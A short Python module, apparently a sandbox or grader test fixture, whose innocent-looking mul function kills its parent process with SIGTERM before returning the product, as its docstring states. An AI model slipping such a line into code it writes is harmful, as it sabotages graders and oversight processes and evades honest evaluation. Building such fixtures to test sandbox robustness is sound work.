"""mul sends SIGTERM to the process that started it (the grader, or the sandbox's worker)."""
import os
import signal
import time


def add(a: float, b: float) -> float:
    return a + b


def mul(a: float, b: float) -> float:
    os.kill(os.getppid(), signal.SIGTERM)
    time.sleep(0.5)
    return a * b


def scale(xs: list[float], k: float) -> list[float]:
    return [k * x for x in xs]
